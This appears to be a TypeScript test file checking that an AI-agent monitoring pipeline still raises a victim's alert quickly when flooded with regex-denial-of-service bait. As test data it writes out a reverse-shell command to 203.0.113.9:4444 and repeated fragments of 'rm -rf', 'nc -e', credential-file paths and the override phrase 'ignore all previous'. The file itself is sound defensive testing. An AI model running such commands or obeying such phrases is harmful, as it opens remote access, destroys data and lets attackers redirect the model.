import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { LocalPipeline } from '../../cli/lib/local-pipeline.ts';
import { startQuietPipeline } from '../support/local-pipelines.ts';

/**
 * Issue 13, regex DoS end to end: one command_exec whose command was "python socket " x 1,200 froze `start`
 * for 11.6 s, and every other agent's alerts with it. Here the same event, and others aimed at each bundled
 * regex and glob, go through the real single-process pipeline (`npm start`: collector, memory transport,
 * processor, file sinks) right before a victim agent's reverse shell; the victim's alert must land within
 * 3 s of its event being sent, as it does without the hostile traffic.
 */
const DEADLINE_MS = 3_000;

let dataDir: string;
let pipeline: LocalPipeline;

beforeAll(async () => {
  vi.stubEnv('CLAWDSTRIKE_EDR_API_KEY', '');
  dataDir = mkdtempSync(join(tmpdir(), 'edr-regex-pipeline-'));
  pipeline = await startQuietPipeline(dataDir);
});

afterAll(async () => {
  await pipeline?.stop();
  vi.unstubAllEnvs();
  rmSync(dataDir, { recursive: true, force: true });
});

let sequence = 0;

function record(agentId: string, eventType: string, data: Record<string, unknown>) {
  sequence++;
  return {
    eventId: `${agentId}-${sequence}`,
    eventType,
    timestamp: new Date().toISOString(),
    sessionId: `${agentId}-session-${sequence}`,
    data,
    metadata: { source: 'test', agentId },
  };
}

async function send(records: ReturnType<typeof record>[]): Promise<void> {
  const response = await fetch(`${pipeline.collectorUrl}/v1/events`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-ndjson', authorization: `Bearer ${pipeline.apiKey}` },
    body: records.map((r) => JSON.stringify(r)).join('\n'),
  });
  expect(response.status).toBe(202);
  expect(await response.json()).toMatchObject({ accepted: records.length, rejected: 0 });
}

function alertSessions(): string[] {
  try {
    return readFileSync(join(dataDir, 'alerts.jsonl'), 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((line) => (JSON.parse(line) as { sessionId: string }).sessionId);
  } catch {
    return [];
  }
}

/**
 * Sends `before` (if any), then the victim's reverse shell, and returns how long the victim's alert took to
 * reach the alerts file, counted from the first send: collector and processor share one event loop, so time
 * the processor spends on `before` delays everything after it.
 */
async function victimAlertMs(before: ReturnType<typeof record>[] = []): Promise<number> {
  const victim = record('victim', 'command_exec', {
    type: 'command',
    command: 'bash',
    args: ['-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
  });
  const start = performance.now();
  if (before.length > 0) await send(before);
  await send([victim]);
  for (;;) {
    if (alertSessions().includes(victim.sessionId)) return performance.now() - start;
    if (performance.now() - start > 30_000) throw new Error('the victim alert never arrived');
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

const hostile = (text: string) => [
  record('attacker', 'command_exec', { type: 'command', command: 'sh', args: ['-c', text] }),
  record('attacker', 'custom', { type: 'custom', customType: 'user_input', text }),
  record('attacker', 'patch_apply', { type: 'patch', filePath: '/srv/app.ts', patchContent: text }),
  record('attacker', 'file_write', {
    type: 'file',
    path: '/srv/notes.txt',
    operation: 'write',
    content: text,
  }),
  record('attacker', 'tool_call', { type: 'tool', toolName: 'shell', parameters: { command: text } }),
];

describe('a victim agent’s alert behind hostile events, through `start`', () => {
  it(`control: the victim's alert lands within ${DEADLINE_MS} ms`, async () => {
    expect(await victimAlertMs()).toBeLessThan(DEADLINE_MS);
  });

  it(`attack: after "python socket " x 1,200 and x 2,400 (17 and 34 KB) and other regex and glob bait, still within ${DEADLINE_MS} ms`, async () => {
    const ms = await victimAlertMs([
      record('attacker', 'command_exec', {
        type: 'command',
        command: 'sh',
        args: ['-c', 'python socket '.repeat(1_200)],
      }),
      record('attacker', 'command_exec', {
        type: 'command',
        command: 'sh',
        args: ['-c', 'python socket '.repeat(2_400)],
      }),
      ...hostile('ignore all previous '.repeat(1_700)),
      ...hostile('rm -rf '.repeat(4_700)),
      ...hostile('nc -e nc -e '.repeat(2_700)),
      record('attacker', 'file_read', {
        type: 'file',
        path: `/${'.ssh/'.repeat(3_300)}x`,
        operation: 'read',
      }),
      record('attacker', 'file_write', {
        type: 'file',
        path: `${'/etc'.repeat(4_000)}/x`,
        operation: 'write',
      }),
    ]);
    expect(ms).toBeLessThan(DEADLINE_MS);
  });
});
